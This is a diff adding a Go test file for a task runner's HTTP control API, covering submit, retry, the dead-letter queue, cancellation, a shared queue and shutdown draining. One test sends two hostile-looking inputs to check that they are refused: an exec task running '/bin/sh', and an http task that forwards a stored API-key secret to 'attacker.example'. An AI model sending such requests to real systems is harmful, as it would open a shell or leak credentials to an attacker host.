@@ -0,0 +1,175 @@
+package runner
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func newControlServer(t *testing.T, reg *TaskRegistry) *httptest.Server {
+	t.Helper()
+	srv := httptest.NewServer(newAPIHandler(newAPIRunner(reg, defaultEnv, 0, 0), NewArtifactStore(t.TempDir())))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+// post sends body to path and decodes a JSON answer into out.
+func post(t *testing.T, srv *httptest.Server, path, body string, out interface{}) int {
+	t.Helper()
+	resp, err := http.Post(srv.URL+path, "application/json", strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if out != nil && resp.StatusCode < 300 {
+		if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return resp.StatusCode
+}
+
+func TestControlSubmitAndRetry(t *testing.T) {
+	reg := NewTaskRegistry()
+	srv := newControlServer(t, reg)
+
+	var sub Submitted
+	if code := post(t, srv, "/tasks", `{"type": "teleport", "payload": "mars"}`, &sub); code != http.StatusAccepted {
+		t.Fatalf("submit: status %d", code)
+	}
+	waitFor(t, func() bool { rec, _ := reg.Get(sub.ID); return rec.Status == "failed" })
+
+	var dead []DeadLetter
+	resp, err := http.Get(srv.URL + "/dlq")
+	if err != nil {
+		t.Fatal(err)
+	}
+	json.NewDecoder(resp.Body).Decode(&dead)
+	resp.Body.Close()
+	if len(dead) != 1 || dead[0].ID != sub.ID || !strings.Contains(dead[0].Error, "unknown task type") {
+		t.Fatalf("dead letters = %+v", dead)
+	}
+
+	var retry Submitted
+	if code := post(t, srv, "/tasks/0/retry", "", &retry); code != http.StatusAccepted || retry.ID != 1 {
+		t.Fatalf("retry: status %d, %+v", code, retry)
+	}
+	waitFor(t, func() bool { rec, _ := reg.Get(1); return rec.Status == "failed" })
+	if rec, _ := reg.Get(1); rec.Spec == nil || rec.Spec.Payload != "mars" {
+		t.Errorf("retried task = %+v", rec)
+	}
+
+	if code := post(t, srv, "/tasks/0/cancel", "", nil); code != http.StatusConflict {
+		t.Errorf("cancel finished task: status %d", code)
+	}
+	if code := post(t, srv, "/tasks/9/retry", "", nil); code != http.StatusNotFound {
+		t.Errorf("retry unknown task: status %d", code)
+	}
+	if code := post(t, srv, "/tasks", `{"payload": "x"}`, nil); code != http.StatusBadRequest {
+		t.Errorf("submit without type: status %d", code)
+	}
+	if code := post(t, srv, "/tasks", `{"type": "exec", "payload": "/bin/sh"}`, nil); code != http.StatusForbidden {
+		t.Errorf("exec without auth: status %d", code)
+	}
+	if code := post(t, srv, "/tasks", `{"type": "http", "payload": "https://attacker.example", "request": {"headers": {"X-Key": "${secret:openai_key}"}}}`, nil); code != http.StatusForbidden {
+		t.Errorf("secret reference without auth: status %d", code)
+	}
+}
+
+func TestControlCancel(t *testing.T) {
+	reg := NewTaskRegistry()
+	srv := newControlServer(t, reg)
+	r := New(Options{
+		MaxRetries: 3,
+		Store:      reg,
+		Logger:     discard,
+		Executor: ExecutorFunc(func(ctx context.Context, id int, spec TaskSpec) (interface{}, error) {
+			<-ctx.Done()
+			return nil, ctx.Err()
+		}),
+	})
+	id, _ := r.Submit(context.Background(), TaskSpec{Type: "wait"})
+	waitFor(t, func() bool { rec, _ := reg.Get(id); return rec.Status == "running" })
+
+	if code := post(t, srv, "/tasks/1/cancel", "", nil); code != http.StatusAccepted {
+		t.Fatalf("cancel: status %d", code)
+	}
+	rec, _ := r.Wait(id)
+	if rec.Status != "failed" || rec.Error != "task canceled" || rec.Attempts != 1 {
+		t.Fatalf("canceled task = %+v", rec)
+	}
+}
+
+func TestControlSharedQueue(t *testing.T) {
+	q := openTestQueue(t, filepath.Join(t.TempDir(), "queue.db"), time.Minute)
+	sharedQueue.Store(q)
+	defer sharedQueue.Store(nil)
+	srv := newControlServer(t, NewTaskRegistry())
+	ctx := context.Background()
+
+	var sub Submitted
+	if code := post(t, srv, "/tasks", `{"type": "count"}`, &sub); code != http.StatusAccepted || !sub.Shared {
+		t.Fatalf("submit: status %d, %+v", code, sub)
+	}
+	q.Claim(ctx, "w", []string{"count"}, 1)
+	if code := post(t, srv, "/tasks/1/cancel", "", nil); code != http.StatusAccepted {
+		t.Fatalf("cancel: status %d", code)
+	}
+	if held, _ := q.Heartbeat(ctx, "w", 1); held[sub.ID] {
+		t.Error("worker still holds the canceled task")
+	}
+	if rec, _ := q.Get(ctx, sub.ID); rec.Status != "failed" || rec.Error != "task canceled" {
+		t.Fatalf("canceled task = %+v", rec)
+	}
+
+	if code := post(t, srv, "/tasks/1/retry", "", &sub); code != http.StatusAccepted || sub.ID != 1 {
+		t.Fatalf("retry: status %d, %+v", code, sub)
+	}
+	if rec, _ := q.Get(ctx, 1); rec.Status != "queued" || rec.Claims != 0 || rec.Error != "" {
+		t.Fatalf("requeued task = %+v", rec)
+	}
+	if code := post(t, srv, "/tasks/1/retry", "", nil); code != http.StatusConflict {
+		t.Errorf("retry queued task: status %d", code)
+	}
+}
+
+func TestControlSubmitSharesRunner(t *testing.T) {
+	reg := NewTaskRegistry()
+	run := newAPIRunner(reg, defaultEnv, 1, 0)
+	run.exec = ExecutorFunc(func(ctx context.Context, id int, spec TaskSpec) (interface{}, error) {
+		<-ctx.Done()
+		return nil, ctx.Err()
+	})
+	srv := httptest.NewServer(newAPIHandler(run, NewArtifactStore(t.TempDir())))
+	defer srv.Close()
+
+	var a, b Submitted
+	post(t, srv, "/tasks", `{"type": "wait"}`, &a)
+	post(t, srv, "/tasks", `{"type": "wait"}`, &b)
+	waitFor(t, func() bool { rec, _ := reg.Get(a.ID); return rec.Status == "running" })
+	time.Sleep(20 * time.Millisecond)
+	if rec, _ := reg.Get(b.ID); rec.Status != "pending" {
+		t.Fatalf("second task %s over max_concurrency 1", rec.Status)
+	}
+
+	// Shutdown cancels both once its grace period is over.
+	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
+	defer cancel()
+	if err := run.drain(ctx); !errors.Is(err, context.DeadlineExceeded) {
+		t.Errorf("drain = %v", err)
+	}
+	for _, id := range []int{a.ID, b.ID} {
+		if rec, _ := reg.Get(id); rec.Status != "failed" {
+			t.Errorf("task %d: %s after shutdown", id, rec.Status)
+		}
+	}
+	if code := post(t, srv, "/tasks", `{"type": "wait"}`, nil); code != http.StatusServiceUnavailable {
+		t.Errorf("submit after shutdown: status %d", code)
+	}
+}